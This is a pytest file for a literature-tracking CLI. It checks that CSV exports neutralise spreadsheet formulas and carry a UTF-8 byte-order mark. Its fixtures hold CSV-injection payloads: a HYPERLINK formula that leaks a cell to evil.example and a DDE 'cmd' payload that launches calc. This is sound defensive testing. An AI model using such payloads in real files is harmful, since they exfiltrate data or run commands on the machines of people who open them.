"""Every CSV litwatch writes is safe to open in a spreadsheet: a cell that would run as a
formula is neutralised (OWASP's leading apostrophe), and a .csv file carries a byte-order
mark so Excel reads its UTF-8 (accents, Greek letters) correctly."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from tests.conftest import cli
from tests.synthetic import article_set, make_record

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click") kratom and withdrawal.'


def _db(tmp_path: Path) -> Path:
    records = [
        make_record(
            1, title=HOSTILE, abstract="Kratom significantly reduced pain compared with placebo."
        ),
        make_record(2, title="+cmd|' /C calc'!A0 kratom.", abstract="@SUM(1+1) kratom μ-opioid."),
    ]
    (tmp_path / "hostile.xml").write_bytes(article_set(records))
    assert cli("import", "hostile.xml", "--db", "h.db").exit_code == 0
    return tmp_path / "h.db"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_no_csv_cell_starts_a_formula(tmp_path: Path) -> None:
    db = _db(tmp_path)
    outputs = [
        cli("export", "records", "--db", db).stdout,
        cli("export", "tags", "--db", db).stdout,
        cli("search", "kratom[tiab]", "--format", "csv", "--db", db).stdout,
        cli("report", "--format", "csv", "--db", db).stdout,
    ]
    assert cli("review", "--export", "review.csv", "--db", db).exit_code == 0
    outputs.append((tmp_path / "review.csv").read_text(encoding="utf-8-sig"))
    for text in outputs:
        cells = _cells(text)
        assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert "'" + HOSTILE in _cells(outputs[0])


def test_csv_files_open_in_excel_as_utf8_and_review_files_read_back(tmp_path: Path) -> None:
    db = _db(tmp_path)
    assert cli("export", "records", "--output", "records.csv", "--db", db).exit_code == 0
    raw = (tmp_path / "records.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the mark Excel needs to read UTF-8
    assert cli("review", "--export", "review.csv", "--db", db).exit_code == 0
    again = cli("review", "--import", "review.csv", "--db", db)  # unchanged: nothing stored
    assert again.exit_code == 0 and "Stored 0 changed, 0 dropped, 0 added" in again.output
